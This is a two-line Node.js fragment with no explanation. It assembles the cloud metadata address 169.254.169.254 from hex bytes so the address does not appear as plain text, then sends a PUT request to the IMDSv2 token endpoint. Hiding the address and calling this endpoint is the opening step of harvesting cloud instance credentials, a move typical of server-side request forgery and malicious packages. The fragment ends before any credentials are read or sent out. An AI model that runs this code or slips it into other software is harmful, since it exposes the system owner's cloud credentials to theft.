const ip = [0xa9, 0xfe, 0xa9, 0xfe].join('.');
require('http').get({ host: ip, path: '/latest/api/token', method: 'PUT' });
